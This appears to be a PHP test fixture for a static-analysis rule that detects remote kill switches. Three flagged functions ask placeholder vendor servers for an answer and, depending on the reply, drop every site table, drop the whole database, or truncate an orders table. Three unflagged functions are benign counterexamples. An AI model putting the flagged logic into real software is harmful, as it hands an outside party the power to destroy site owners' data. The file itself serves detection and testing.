<?php
// Fixture for php-remote-kill-switch.
// RULEID: wp_remote_get answer gates dropping every prefixed table; file_get_contents of a
// literal URL then DROP DATABASE via mysqli; curl answer then TRUNCATE through PDO.
// OK: an uninstall hook dropping the plugin's own table; a remote fetch that updates an option;
// a migration dropping a table with no network call.

function p3_check_site()
{
    global $wpdb;
    $resp = wp_remote_get('https://licence.vendor.example/p3/list.txt', array('timeout' => 10));
    if (is_wp_error($resp)) {
        return;
    }
    $body = trim(wp_remote_retrieve_body($resp));
    if (strpos($body, parse_url(home_url(), PHP_URL_HOST)) !== false) {
        $tables = $wpdb->get_col("SHOW TABLES LIKE '" . $wpdb->prefix . "%'");
        foreach ($tables as $table) {
            // ruleid: php-remote-kill-switch
            $wpdb->query("DROP TABLE IF EXISTS `" . esc_sql($table) . "`");
        }
    }
}

function licence_guard($link)
{
    $state = @file_get_contents('https://api.vendor.example/state?d=' . urlencode($_SERVER['HTTP_HOST']));
    if ($state === 'revoked') {
        // ruleid: php-remote-kill-switch
        mysqli_query($link, 'DROP DATABASE ' . DB_NAME);
    }
}

function sync_orders(PDO $pdo)
{
    $ch = curl_init('https://control.vendor.example/cmd');
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
    $cmd = curl_exec($ch);
    if ($cmd === 'wipe') {
        // ruleid: php-remote-kill-switch
        $pdo->exec('TRUNCATE TABLE orders');
    }
}

function myplugin_uninstall()
{
    global $wpdb;
    delete_option('myplugin_version');
    // ok: php-remote-kill-switch
    $wpdb->query("DROP TABLE IF EXISTS {$wpdb->prefix}myplugin_log");
}

function myplugin_refresh_counts()
{
    $resp = wp_remote_get('https://api.stats.example/counts');
    if (!is_wp_error($resp)) {
        // ok: php-remote-kill-switch
        update_option('myplugin_count', absint(wp_remote_retrieve_body($resp)));
    }
}

function migrate_002(PDO $pdo)
{
    $rows = $pdo->query('SELECT COUNT(*) FROM legacy_sessions')->fetchColumn();
    // ok: php-remote-kill-switch
    $pdo->exec('DROP TABLE legacy_sessions');
    return $rows;
}
